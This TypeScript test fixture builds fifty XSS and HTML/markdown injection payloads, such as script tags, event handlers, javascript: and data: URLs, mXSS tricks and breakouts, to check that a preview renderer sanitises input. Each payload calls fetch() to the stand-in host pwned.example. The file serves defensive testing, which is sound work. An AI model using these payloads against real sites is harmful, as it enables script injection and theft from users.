/**
 * Fifty injection payloads for the preview (issue 10, item 11). Each one, if it ever ran, would
 * make itself observable: it sets `window.__pwned`, logs `PWNED-nn` to the console, or asks for a
 * URL on `pwned.example` (a name reserved for examples, so nothing answers even if asked). Each
 * also carries its marker `PWNED-nn` in text a reader would see, so the preview must show it.
 * Shared by the unit twin (test/unit/preview/injection-payloads.test.ts) and phase 5 of
 * `npm run test:e2e` (scripts/e2e/injection-check.mjs).
 */

/** The host every payload URL names: any request to it means a payload loaded something. */
export const PWNED_HOST = 'pwned.example';

export interface Payload {
  /** 1..50, and the marker `PWNED-01`..`PWNED-50` found in its text. */
  n: number;
  marker: string;
  /** What it tries, for failure messages. */
  kind: string;
  text: string;
}

/** `js`: code that sets the global and logs the marker; `url`: an address on the pwned host; `m`: the marker. */
type Template = [kind: string, build: (js: string, url: string, m: string) => string];

const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

const TEMPLATES: Template[] = [
  ['script tag', (js) => `<script>${js}</script>`],
  ['img onerror', (js) => `<img src=x onerror="${js}">`],
  ['remote img', (_, url, m) => `<img src="${url}.png" alt="${m}">${m}`],
  ['svg onload', (js) => `<svg onload="${js}"></svg>`],
  ['script in svg', (js) => `<svg><script>${js}</script></svg>`],
  ['svg animate onbegin', (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/>`],
  ['svg javascript: link', (js, _, m) => `<svg><a href="javascript:${js}"><text>${m}</text></a>`],
  ['svg foreignObject', (js) => `<svg><foreignObject><img src=x onerror="${js}"></foreignObject>`],
  ['html javascript: link', (js, _, m) => `<a href="javascript:${js}">${m}</a>`],
  ['markdown javascript: link', (js, _, m) => `[${m}](javascript:${js})`],
  ['bare mixed-case javascript: URL', (js) => ` JaVaScRiPt:${js}`],
  ['markdown autolink', (js) => `<javascript:${js}>`],
  ['markdown reference link', (js, _, m) => `[${m}][x]\n\n[x]: javascript:${js}`],
  [
    'markdown data: link',
    (js, _, m) => `[${m}](data:text/html;base64,${base64(`<script>${js}</script>`)})`,
  ],
  ['markdown remote image', (_, url, m) => `![${m}](${url}.png)`],
  ['markdown html block', (js) => `<div>\n\n<script>${js}</script>\n\n</div>`],
  ['iframe javascript:', (js) => `<iframe src="javascript:${js}"></iframe>`],
  ['iframe srcdoc', (js) => `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`],
  ['object', (_, url, m) => `<object data="${url}">${m}</object>`],
  ['embed', (_, url) => `<embed src="${url}">`],
  ['link rel=import', (_, url) => `<link rel="import" href="${url}.html">`],
  ['link stylesheet', (_, url) => `<link rel="stylesheet" href="${url}.css">`],
  ['meta refresh', (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`],
  ['base href', (_, url) => `<base href="${url}/">`],
  ['style @import', (_, url) => `<style>@import url("${url}.css");</style>`],
  ['style attribute url()', (_, url, m) => `<div style="background:url(${url}.png)">${m}</div>`],
  ['style attribute expression', (js, _, m) => `<p style="width:expression(${js})">${m}</p>`],
  ['</style> breakout', (js) => `</style><script>${js}</script><style>`],
  ['</script> breakout', (js) => `</script><script>${js}</script>`],
  ['</title> breakout', (js) => `</title></textarea><script>${js}</script>`],
  ['double-quoted attribute breakout', (js) => `"><script>${js}</script>`],
  ['single-quoted attribute breakout', (js) => `'><img src=x onerror="${js}">`],
  ['event attribute injection', (js) => `" onmouseover="${js}" x="`],
  ['template literal breakout', (js) => `\${${js}}\`;${js};\``],
  ['JS string breakout', (js) => `';${js};//`],
  ['unicode escapes', (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`],
  ['bare javascript: URL', (js) => `javascript:${js}`],
  ['named entities', (js) => `&lt;script&gt;${js}&lt;/script&gt;`],
  ['numeric entities', (js) => `&#60;img src=x onerror="${js}"&#62;`],
  ['entity-encoded scheme', (js, _, m) => `<a href="&#106;avascript:${js}">${m}</a>`],
  ['tab in scheme', (js, _, m) => `<a href="java\tscript:${js}">${m}</a>`],
  ['mXSS math/style', (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`],
  [
    'mXSS noscript',
    (js) => `<noscript><p title="</noscript><img src=x onerror=&quot;${js}&quot;>">`,
  ],
  ['form action', (js, _, m) => `<form action="javascript:${js}"><button>${m}</button></form>`],
  ['details ontoggle', (js, _, m) => `<details open ontoggle="${js}">${m}</details>`],
  ['input autofocus', (js) => `<input autofocus onfocus="${js}">`],
  [
    'audio/video onerror',
    (js) => `<video><source onerror="${js}"></video><audio src=x onerror="${js}">`,
  ],
  ['comment breakout', (js) => `<!--<img src="--><img src=x onerror="${js}">`],
  ['nested tags', (js) => `<scr<script>ipt>${js}</scr</script>ipt>`],
  [
    'bare data: URL, img srcset',
    (js, url) => `data:text/html,<script>${js}</script><img srcset="${url}.png 1x">`,
  ],
];

/** The code a payload would run: observable three ways (a global, the console, a request). */
function action(marker: string, n: number): string {
  return `window.__pwned=${n};console.log('${marker}');fetch('https://${PWNED_HOST}/${marker}')`;
}

export const PAYLOADS: Payload[] = TEMPLATES.map(([kind, build], i) => {
  const n = i + 1;
  const marker = `PWNED-${String(n).padStart(2, '0')}`;
  const raw = build(action(marker, n), `https://${PWNED_HOST}/${marker}`, marker);
  // Every payload shows its marker as text: those whose only text is inside a tag get it after.
  const text = raw.replace(/<[^>]*>/g, '').includes(marker) ? raw : `${raw} ${marker}`;
  return { n, marker, kind, text };
});
